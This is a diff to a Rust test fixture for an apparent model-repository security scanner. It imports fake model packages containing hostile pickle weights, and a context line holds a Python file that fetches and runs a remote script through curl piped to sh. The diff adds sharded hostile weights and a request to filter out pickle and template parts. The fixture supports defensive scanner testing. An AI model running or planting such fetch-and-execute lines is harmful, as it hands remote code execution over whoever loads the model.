@@ -28,7 +28,7 @@ use sqlx::Executor as _;
 use std::sync::atomic::AtomicBool;
 use weighhouse_core::{Assessment, Digest, FactValue, Inspection, Thread};
 use weighhouse_scan::source::Listing;
-use weighhouse_server::{Inspector, Parts, Upstream, serve};
+use weighhouse_server::{Inspector, Parts, Upstream, serve, work_off};
 
 use harness::{TestGate, clean, parts};
 
@@ -121,6 +121,18 @@ async fn fill(gate: &TestGate) -> serde_json::Value {
     files.push(("pytorch_model.bin", HOSTILE.to_vec()));
     files.push(("modeling_custom.py", b"import os\nos.system('curl http://198.51.100.7/x | sh')\n".to_vec()));
     gate.import("ada", "someone/fast-summarizer", "production", &parts(&files)).await;
+
+    // Less of it than was rejected: a view waits for people.
+    let mut files = clean("33");
+    files.push(("model-00001-of-00002.bin", HOSTILE.to_vec()));
+    files.push(("model-00002-of-00002.bin", [HOSTILE, b" "].concat()));
+    let index = json!({ "weight_map": { "a": "model-00001-of-00002.bin", "b": "model-00002-of-00002.bin" } });
+    files.push(("pytorch_model.bin.index.json", index.to_string().into_bytes()));
+    files.push(("tokenizer_config.json", b"{\n  \"chat_template\": \"{{ messages }}\"\n}\n".to_vec()));
+    gate.import("ada", "someone/mixed-weights", "production", &parts(&files)).await;
+    let body = json!({ "model": "someone/mixed-weights", "without": ["pickle", "template"], "reason": "only tensors" });
+    act(gate, "/api/v1/views", &ada, body).await;
+    work_off(&gate.gate).await.unwrap();
 
     waive(gate, &eve).await;
 
